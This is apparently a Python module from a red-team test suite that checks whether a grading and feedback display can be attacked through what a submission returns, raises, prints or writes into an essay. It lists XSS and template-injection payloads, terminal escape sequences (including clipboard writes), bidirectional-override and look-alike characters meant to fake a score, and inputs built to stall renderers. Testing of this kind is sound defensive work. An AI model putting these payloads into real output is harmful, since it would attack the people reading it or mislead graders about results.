"""Attacks on who reads the feedback: HTML, scripts, terminal escapes, misleading characters."""

from functools import partial

from redteam.attack import attack

markup = partial(attack, "markup")

SCRIPTS = r"""
SCRIPTS = [
    "<script>alert('w2s-redteam')</script>",
    "</pre></code></style></title></textarea><img src=x onerror=alert('w2s-redteam')>",
    "<svg/onload=alert('w2s-redteam')>",
    "\"><a href=\"javascript:alert('w2s-redteam')\">8 of 8</a>",
    "' onmouseover='alert(1)' x='",
    "&lt;script&gt;alert('w2s-redteam')&lt;/script&gt;",
    "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${7*7} #{7*7} <%= 7*7 %> [[7*7]]",
    "<!--<script>--><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<meta http-equiv=refresh content='0;url=http://127.0.0.1/w2s-redteam'>",
    "<link rel=stylesheet href=//127.0.0.1/w2s-redteam><base href=//127.0.0.1/>",
    "]]><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
]
"""

ATTACKS = (
    markup(
        "markup-in-visible-value",
        "Returns markup to the visible check, whose message shows the value.",
        needs=[SCRIPTS],
        double="""
        def double(x):
            return "".join(SCRIPTS)
        """,
    ),
    markup(
        "markup-in-exception",
        "Raises exceptions with markup as text, in a cell and in calls.",
        needs=[SCRIPTS],
        double="""
        def double(x):
            raise ValueError("".join(SCRIPTS))
        """,
        mean="""
        raise KeyError("".join(SCRIPTS))
        """,
        counter="""
        raise AssertionError("".join(SCRIPTS))
        """,
    ),
    markup(
        "markup-in-class-names",
        "Raises exceptions whose class, module and attributes are named in markup.",
        needs=[SCRIPTS],
        double="""
        def double(x):
            kind = type("<img src=x onerror=alert('w2s-redteam')>", (Exception,), {})
            kind.__module__ = kind.__qualname__ = "".join(SCRIPTS)
            raise kind("")
        """,
        mean="""
        def mean(values):
            raise NameError("no name", name="<script>alert('w2s-redteam')</script>")
        """,
        counter="""
        Counter = type("<script>alert('w2s-redteam')</script>", (), {})
        """,
    ),
    markup(
        "markup-in-answers",
        "Writes markup into answers and keys that feedback shows.",
        honest="double",
        needs=[SCRIPTS],
        answers="""
        answers = {"q1": "".join(SCRIPTS), "q2": "<b>a</b>"} | dict.fromkeys(SCRIPTS, "=1+1")
        """,
    ),
    markup(
        "markup-in-essay",
        "Writes markup of all sorts into the essay, which a teacher reads.",
        honest="double",
        essay=r"""
        <script>alert('w2s-redteam')</script>
        <img src=x onerror="alert('w2s-redteam')"> <svg onload=alert(1)>
        [a link](javascript:alert('w2s-redteam')) ![](javascript:alert(1))
        [another](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
        <details open ontoggle=alert(1)>x</details> <a href="vbscript:x">y</a>
        ![x](http://127.0.0.1/w2s-redteam.png) <style>@import 'http://127.0.0.1/w2s'</style>
        <form action="http://127.0.0.1/w2s-redteam"><input name=score value=2><button>ok</form>
        $$\href{javascript:alert(1)}{8/8}$$ $\require{html}\unicode{x3c}$
        {{ config }} {% raw %} </section></html> <!-- <div hidden>
        """,
    ),
    markup(
        "markup-in-essay-attachment",
        "Hides scripts in the essay's data addresses, references and odd encodings.",
        honest="double",
        essay=r"""
        <object data="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"></object>
        <embed src="data:text/html,<script>alert(1)</script>">
        <a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>
        <a href="java&#9;script:alert(1)">y</a>
        <IMG SRC=`javascript:alert(1)`> <x onclick=alert(1) style=position:fixed;inset:0>
        ![x](attachment:w2s-redteam.svg)
        <noscript><p title="</noscript><img src=x onerror=alert(1)>">
        """,
    ),
    markup(
        "markup-terminal-escapes",
        "Sends terminal escapes: titles, colours, cleared lines, pasted commands, links.",
        double=r"""
        ESCAPES = (
            "\x1b]0;w2s-redteam\x07\x1b[2J\x1b[1;1H\x1b[31mscore: 8 of 8\x1b[0m\r\x1b[K"
            "\x1b]8;;http://127.0.0.1/w2s-redteam\x1b\\link\x1b]8;;\x1b\\\x1b[?1049h\x1b[6n"
            "\x1b]52;c;dzJzLXJlZHRlYW0=\x07\x1bP$q\x1b\\\x9b31m\x90q\x9c\x08\x08\x08\x7f\x00\x0c"
        )
        print(ESCAPES)


        def double(x):
            raise ValueError(ESCAPES)
        """,
        mean="""
        raise ValueError(ESCAPES)
        """,
        essay="\x1b[2J\x1b]0;w2s-redteam\x07\x9b31m score \x08\x08 8\n",
    ),
    markup(
        "markup-bidi",
        "Turns text around by override characters, and hides or doubles some of it.",
        double=r"""
        TURNED = (
            "\u202e8 fo 8 :erocs\u202c \u2066\u2067\u2068\u2069 \u200b\u200d\ufeff\u00ad \u061c"
            "\u2028\u2029\u0085 sc\u043ere: 8 Z\u0351\u0351\u0351\u0351 \ufff9x\ufffay\ufffb"
            "\U000e0041\U000e0042 \u3164\u115f"
        )


        def double(x):
            return TURNED
        """,
        answers="""
        answers = {"q1": "\\u202eb", "q2": "\\u0430"}  # the last is a Cyrillic letter
        """,
        essay="\u202eessay\u202c \u2066 score\u200b: 2 of 2\u2028\u0085 \u0430\n",
    ),
    markup(
        "markup-surrogates",
        "Returns, raises and prints lone surrogates, null characters and non-characters.",
        double=r"""
        def double(x):
            return "\ud800\udfff\x00\ufffe\uffff\U0010ffff"
        """,
        mean=r"""
        try:
            print("\ud800 printed")
        except UnicodeError:
            pass


        def mean(values):
            raise ValueError("\udc80\ud800\x00")
        """,
        answers=r"""
        answers = {"q1": "\ud800", "\udfff": "\x00", "q2": "c\x00"}
        """,
    ),
    markup(
        "markup-combining-flood",
        "Piles thousands of marks on a letter, and a line of a million letters without a blank.",
        double=r"""
        def double(x):
            return "Z" + "\u0351\u0489" * 20_000 + "w" * 1_000_000
        """,
        essay="Z" + "\u0351" * 20_000 + "w" * 200_000 + "\n",
    ),
    markup(
        "markup-nested-essay",
        "Nests quotes, lists, brackets and emphasis so that a renderer takes very long.",
        honest="double",
        essay="> " * 2_000 + "[" * 5_000 + "*a_" * 5_000 + "`" * 3_001 + "\n" + "![" * 5_000 + "\n",
    ),
    markup(
        "markup-in-output",
        "Displays HTML, scripts and widgets as results of cells.",
        honest="double",
        needs=[SCRIPTS],
        mean="""
        from IPython.display import HTML, Javascript, SVG, display

        for script in SCRIPTS:
            display(HTML(script), Javascript("alert('w2s-redteam')"))
        print("".join(SCRIPTS))


        def mean(values):
            display(HTML("".join(SCRIPTS)))
            raise ValueError(HTML("".join(SCRIPTS)).data)
        """,
    ),
)
